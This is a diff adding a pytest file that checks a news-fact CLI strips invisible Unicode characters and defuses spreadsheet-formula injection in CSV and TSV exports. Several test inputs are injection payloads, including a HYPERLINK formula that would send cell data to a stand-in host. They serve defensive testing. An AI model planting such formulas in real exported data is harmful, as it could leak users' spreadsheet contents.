@@ -1,0 +1,113 @@
+"""Faults tried through the real ``factdesk`` command (issue 14): a store
+reached through a symlink, files of the same name, damaged shards and index
+files, a full disk, figures of any length, OS errors, invisible characters
+and spreadsheet formulas.  Each is one clear line or a correct answer, never
+a traceback, an ``internal error`` or a silently wrong result."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import shutil
+from pathlib import Path
+
+import pytest
+
+from tests.helpers_cli import factdesk, stderr_lines, store_files, write_jsonl
+
+
+@pytest.fixture(scope="module")
+def pristine(tmp_path_factory) -> Path:
+    """A seeded store with its search index, built once; tests work on copies."""
+    db = tmp_path_factory.mktemp("pristine") / "factdesk.json"
+    assert factdesk(db, "seed").returncode == 0
+    assert factdesk(db, "search", "经济").returncode == 0
+    return db
+
+
+@pytest.fixture
+def db(pristine, tmp_path) -> Path:
+    target = tmp_path / "store"
+    shutil.copytree(pristine.parent, target)
+    return target / pristine.name
+
+
+def one_line(proc, *fragments: str) -> str:
+    """The single stderr line of a failed command, holding ``fragments``."""
+    err = proc.stderr.decode("utf-8", "replace")
+    assert proc.returncode == 1, (proc.stdout, err)
+    assert "Traceback" not in err and "internal error" not in err, err
+    lines = stderr_lines(proc)
+    assert len(lines) == 1, err
+    for fragment in fragments:
+        assert fragment in lines[0], lines[0]
+    return lines[0]
+
+
+def ok(proc) -> str:
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    return proc.stdout.decode()
+
+
+def json_lines(proc) -> list[dict]:
+    return [json.loads(line) for line in ok(proc).splitlines() if line.strip()]
+
+
+# ---------------------------------------------------------------- invisible characters
+
+def test_invisible_format_characters_are_removed_at_ingest_so_what_is_seen_is_found(db, tmp_path):
+    page = tmp_path / "p.txt"
+    page.write_text("# 经\u200b济\u200c快\u200d报\u2060\u061c\n\n"
+                    "全市\u200e新增\u200f企业\ufeff1200家\u2028同比增长5.7%。\u2029家庭👨\u200d👩\u200d👧出游。\n",
+                    encoding="utf-8")
+    ok(factdesk(db, "ingest", str(page)))
+    hits = json_lines(factdesk(db, "search", "新增企业", "--json"))
+    assert [h["title"] for h in hits] == ["经济快报"]
+    article = json.loads(ok(factdesk(db, "show", hits[0]["article_id"], "--json")))
+    for mark in "\u200b\u200c\u2060\u061c\u200e\u200f\ufeff\u2028\u2029":
+        assert mark not in article["title"] + article["body"]
+    assert "👨\u200d👩\u200d👧" in article["body"]  # a joiner inside an emoji sequence builds one emoji
+
+
+# ---------------------------------------------------------------- spreadsheet formulas
+
+FORMULAS = "# 公司公告\n\n=1+2*3公司营业收入1.5亿元。\n\n@SUM(A1)利润2亿元。\n\n+HYPERLINK(A1)收入下降3%。\n"
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised_and_json_stays_verbatim(db, tmp_path):
+    page = tmp_path / "f.txt"
+    page.write_text(FORMULAS, encoding="utf-8")
+    ok(factdesk(db, "ingest", str(page)))
+    aid = json_lines(factdesk(db, "search", "营业收入", "--json"))[0]["article_id"]
+    rows = list(csv.DictReader(io.StringIO(ok(factdesk(db, "facts", "--article", aid, "--csv")))))
+    assert rows
+    cells = [value for row in rows for value in row.values()]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    assert any(c.startswith("'=1+2*3") for c in cells) and any(c.startswith("'@SUM") for c in cells)
+    assert all(row["value"] == "" or float(row["value"]) for row in rows)  # numbers stay numbers
+    records = json_lines(factdesk(db, "facts", "--article", aid, "--json"))
+    assert any(r["clause"].startswith("=1+2*3") for r in records)  # JSON keeps the text as it is
+
+
+@pytest.mark.parametrize("text, cell", [
+    ("=1+2", "'=1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("+HYPERLINK(x)", "'+HYPERLINK(x)"), ("-x", "'-x"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-3.5", "-3.5"), ("+2", "+2"), ("-1e5", "-1e5"), ("12%", "12%"),
+    ("公司", "公司"), ("", ""),
+])
+def test_the_one_spreadsheet_cell_function(text, cell):
+    from store import spreadsheet_cell
+
+    assert spreadsheet_cell(text) == cell
+
+
+def test_the_apps_csv_export_and_tsv_copy_neutralise_formulas_too():
+    from tui.citation import facts_tsv
+    from tui.export import to_csv
+
+    fact = {"id": "a:body:0", "article_id": "a", "clause": "=HYPERLINK(\"http://x?\"&A1)利润2亿元", "value": -2,
+            "subject": "@SUM(A1)"}
+    tsv = facts_tsv([fact]).splitlines()[1].split("\t")
+    exported = next(csv.reader(io.StringIO(to_csv([fact]).splitlines()[1])))
+    for cells in (tsv, exported):
+        assert "'=HYPERLINK(\"http://x?\"&A1)利润2亿元" in cells and "'@SUM(A1)" in cells and "-2" in cells
